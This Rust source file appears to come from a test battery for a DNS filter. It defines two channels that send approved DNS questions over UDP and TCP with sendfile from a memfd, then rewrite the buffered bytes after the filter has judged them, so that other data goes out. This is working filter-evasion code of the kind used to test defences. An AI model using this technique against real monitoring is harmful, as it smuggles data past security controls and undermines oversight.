//! Questions in memory that their sender still has: what was judged is not what leaves.

use std::{
    fs::File,
    io,
    net::UdpSocket,
    os::{fd::AsRawFd, unix::fs::FileExt},
};

use nix::{
    errno::Errno,
    libc,
    sys::memfd::{MFdFlags, memfd_create},
};

use crate::lab::{
    battery::{Aim, Channel, each},
    probe::Family,
};

use super::{
    message::{A, LABEL, Message, PORT, wire},
    streams::connect,
};

/// Each segment has a page of the file for itself.
const PAGE: usize = 4096;

/// As large as a filter blanks them: they push what is behind them out of what it copies.
const PADDED: usize = 3;
const PADDING: (u16, &[u8]) = (12, &[0; 240]);

/// As many more as a filter may read in a segment. Their bytes are changed.
const BARE: u16 = 13;

/// As long as names may be: 64 letters less than the longest.
const LABELS: usize = 2;

pub(super) const DATAGRAM: Channel = Channel {
    name: "dns-rewritten",
    how: "approved questions by datagrams, sent from a file whose bytes are changed once they are judged",
    seen_in: "described: see dns-tcp-rewritten",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let name = format!("{}.", "a".repeat(LABEL)).repeat(LABELS) + &field.wildcard()?.name;
        let approved = Message::ask(1, &wire(&name), A).bytes();
        let file = File::from(memfd_create("questions", MFdFlags::MFD_CLOEXEC)?);
        let resolver = field.side(Family::V4)?.resolver()?;
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.connect((resolver, PORT))?;
        let twice = || pieces.of(approved.len());
        each(twice().chain(twice()).enumerate(), |(index, piece)| {
            let at = (index * PAGE) as u64;
            file.write_all_at(&approved, at)?;
            send(&socket, &file, at, approved.len())?;
            file.write_all_at(&piece, at)
        })
    },
    read: None,
};

pub(super) const FILE: Channel = Channel {
    name: "dns-tcp-rewritten",
    how: "approved questions over TCP, sent from a file whose bytes are changed once they are judged",
    seen_in: "described: sendfile, splice and MSG_ZEROCOPY hand over memory that its owner can still write to",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let name = wire(&field.exact()?.name);
        let padded = Message::ask(0, &name, A).extended(0, Some(PADDING));
        let before = padded.framed().repeat(PADDED);
        let changed: Vec<u8> = (1..=BARE)
            .flat_map(|id| Message::ask(id, &name, A).framed())
            .collect();
        let approved = [&before[..], &changed].concat();
        let file = File::from(memfd_create("questions", MFdFlags::MFD_CLOEXEC)?);
        let side = field.side(Family::V4)?;
        // Twice: whoever reads at once, reads what was approved.
        let twice = || pieces.of(changed.len());
        each(twice().chain(twice()).enumerate(), |(index, piece)| {
            let at = (index * PAGE) as u64;
            file.write_all_at(&approved, at)?;
            let connection = connect(side)?;
            send(&connection, &file, at, approved.len())?;
            file.write_all_at(&piece, at + before.len() as u64)
        })
    },
    read: None,
};

/// Sends bytes of a file that the socket takes from where the file has them.
fn send(to: &impl AsRawFd, file: &File, at: u64, length: usize) -> io::Result<()> {
    let mut offset = libc::off_t::try_from(at).map_err(io::Error::other)?;
    // SAFETY: the offset is read and written.
    let sent = unsafe { libc::sendfile(to.as_raw_fd(), file.as_raw_fd(), &raw mut offset, length) };
    match Errno::result(sent)? {
        sent if usize::try_from(sent) == Ok(length) => Ok(()),
        sent => Err(io::Error::other(format!("only {sent} bytes are sent"))),
    }
}
